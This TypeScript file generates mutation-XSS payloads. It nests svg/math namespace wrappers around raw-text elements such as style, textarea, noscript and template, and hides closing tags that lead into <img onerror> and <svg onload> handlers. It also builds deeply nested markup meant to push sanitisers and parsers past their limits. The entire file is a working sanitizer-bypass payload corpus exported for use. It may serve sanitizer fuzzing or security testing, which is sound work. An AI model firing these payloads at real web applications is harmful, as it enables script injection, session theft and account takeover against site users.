import { RAN } from './code.ts'

/**
 * Mutation XSS: markup that changes when it is serialised and parsed again, by elements whose content model depends on the
 * namespace, and integration points between namespaces.
 */
const foreign = [
  'svg',
  'math',
  'svg><foreignObject',
  'math><annotation-xml encoding="text/html"',
  'math><mtext',
  'math><mtext><table><mglyph',
  'svg><desc',
  'svg><title',
  'form><math><mtext></form><form',
  'table><svg',
]
const raw = [
  'style',
  'title',
  'textarea',
  'noscript',
  'noembed',
  'noframes',
  'iframe',
  'xmp',
  'script',
  'select',
  'option',
  'template',
  'plaintext',
  '!--',
  '![CDATA[',
  'p',
  'br',
  'mglyph',
  'malignmark',
  'desc',
]
const hidden: ((element: string) => string)[] = [
  (element) => `<a title="</${element}><img src=x onerror=${RAN}>">`,
  (element) => `<img alt="</${element}><img src=x onerror=${RAN}>" src=x>`,
  (element) => `<!--</${element}><img src=x onerror=${RAN}>-->`,
  (element) => `&lt;/${element}&gt;&lt;img src=x onerror=${RAN}&gt;`,
  (element) => `</${element}><img src=x onerror=${RAN}>`,
  (element) => `<p id="</${element}><svg onload=${RAN}>">`,
]

/** Depth by which filters and parsers run into limits of their own. */
const deep = [64, 300, 600].flatMap((depth) => [
  `${'<b>'.repeat(depth)}<img src=x onerror=${RAN}>`,
  `${'<div>'.repeat(depth)}<svg><style><a title="</style><img src=x onerror=${RAN}>">`,
  `${'<ul><li>'.repeat(depth / 4)}<a href="javascript:${RAN}">x</a>`,
])

export const namespacePayloads = (): string[] => [
  ...foreign.flatMap((outer) => raw.flatMap((inner) => hidden.map((hide) => `<${outer}><${inner}>${hide(inner)}`))),
  ...deep,
]
